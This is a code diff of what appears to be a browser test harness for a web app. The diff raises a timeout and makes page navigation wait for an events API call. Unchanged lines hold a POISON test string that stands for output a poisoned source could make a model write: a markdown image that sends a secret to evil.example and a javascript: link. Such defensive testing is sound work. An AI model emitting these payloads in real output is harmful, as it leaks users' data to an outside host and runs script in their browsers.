@@ -29,7 +29,7 @@ from workers.main import RETRY, working
 CHROMIUM = next(
     filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
 )
-PATIENCE_MS = 15_000  # with what a busy machine may need for anything
+PATIENCE_MS = 60_000  # with what a busy machine may need for anything
 # Slow enough to be stopped or left in the middle, and at its end what a poisoned source may make a model write.
 POISON = (
     "\n\n![x](https://evil.example/x.png?q=secret) [press](javascript:alert(1)) ",
@@ -123,7 +123,8 @@ async def ada(
     async with working(site.worker, Terms(RETRY)), _watched(site, browser) as page:
         cookie = {"name": COOKIE, "value": new.token, "url": site.url, "httpOnly": True}
         await page.context.add_cookies([cookie])  # pyright: ignore[reportArgumentType]
-        await page.goto(site.url)
+        async with page.expect_response(f"{site.url}/api/v1/events"):  # from now on alerts come
+            await page.goto(site.url)
         await page.wait_for_selector("#search-input")
         yield Person(page, site.url)
 
